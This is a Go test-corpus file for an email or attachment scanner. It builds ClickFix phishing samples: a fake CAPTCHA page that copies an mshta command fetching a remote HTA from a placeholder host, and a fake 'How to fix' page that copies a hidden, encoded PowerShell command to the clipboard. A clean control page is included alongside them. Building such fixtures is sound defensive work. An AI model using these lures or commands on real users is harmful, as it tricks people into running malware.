package corpus

// ClickFix pages (fake CAPTCHA, "How to fix"): an HTML attachment whose
// button puts a command on the clipboard and tells the reader to paste it
// into the Run dialog. Nothing is downloaded and no link is clicked. Each
// page was opened in Chromium (scanners/heuristic's
// TestClipboardCommandInChromium holds the same tricks to what Chromium
// copies); the addresses are reserved names and the commands start nothing
// that exists.

func clickfixCases() []officeCase {
	return []officeCase{
		htmlCase("html-clickfix-captcha", "a fake CAPTCHA page whose button copies an mshta command with a decoy comment and asks for Win+R, Ctrl+V, Enter",
			"Verify.html", "<!DOCTYPE html>\r\n<html><head><meta charset=\"utf-8\"><title>Verification</title></head><body>\r\n"+
				"<h2>Verify you are human</h2><p>To view the shared document complete these steps:</p><ol><li>Press Windows + R</li><li>Press CTRL + V</li><li>Press Enter</li></ol>\r\n"+
				"<button onclick=\"verify()\">I'm not a robot</button>\r\n<script>\r\n"+
				"var cmd = \"mshta https://verify-captcha.example.net/check.hta \" + \"# I am not a robot - reCAPTCHA Verification ID: 4471\";\r\n"+
				"function verify() { navigator.clipboard.writeText(cmd); }\r\n</script></body></html>\r\n", "clipboard-command"),
		htmlCase("html-clickfix-how-to-fix", "a \"How to fix\" page that decodes a PowerShell command from base64 into a field and copies it with execCommand",
			"Document.html", "<!DOCTYPE html>\r\n<html><head><meta charset=\"utf-8\"><title>Document</title></head><body>\r\n"+
				"<div>Word could not display this document: a font is missing. Click \"How to fix\" and follow the steps.</div><button id=\"fix\">How to fix</button>\r\n<script>\r\n"+
				"document.getElementById(\"fix\").onclick = function () {\r\n  var t = document.createElement(\"textarea\");\r\n"+
				"  t.value = atob(\"cG93ZXJzaGVsbCAtbm9wIC13IGhpZGRlbiAtZSBiZ0J2QUhRQVpRQndBR0VBWkFBPQ==\");\r\n"+
				"  document.body.appendChild(t); t.select(); document.execCommand(\"copy\");\r\n"+
				"  alert(\"Press Windows + X, choose Terminal, paste with a right click and press Enter.\");\r\n};\r\n</script></body></html>\r\n", "clipboard-command"),
	}
}

// clickfixClean: an exported page with copy buttons for what it shows.
func clickfixClean() []Sample {
	return []Sample{build(Sample{Name: "html-copy-buttons", Clean: true, About: "an exported how-to page whose buttons copy the commands it shows (pip install, a SQL query)"},
		mail{subject: "Setup notes", root: multipart("mixed", text("The setup notes as a page.\n"),
			attach("text/html; charset=utf-8", "setup-notes.html", []byte("<!DOCTYPE html>\r\n<html><body><h1>Setup</h1>\r\n"+
				"<p>Install the client:</p><pre id=\"c1\">pip install requests</pre><button onclick=\"cp('c1')\">Copy</button>\r\n"+
				"<p>Then list the accounts:</p><pre id=\"c2\">SELECT * FROM accounts;</pre><button onclick=\"cp('c2')\">Copy</button>\r\n"+
				"<p>On Windows, run powershell -Command Get-Date to check the clock.</p>\r\n"+
				"<script>function cp(id) { navigator.clipboard.writeText(document.getElementById(id).innerText); }</script></body></html>\r\n")))})}
}
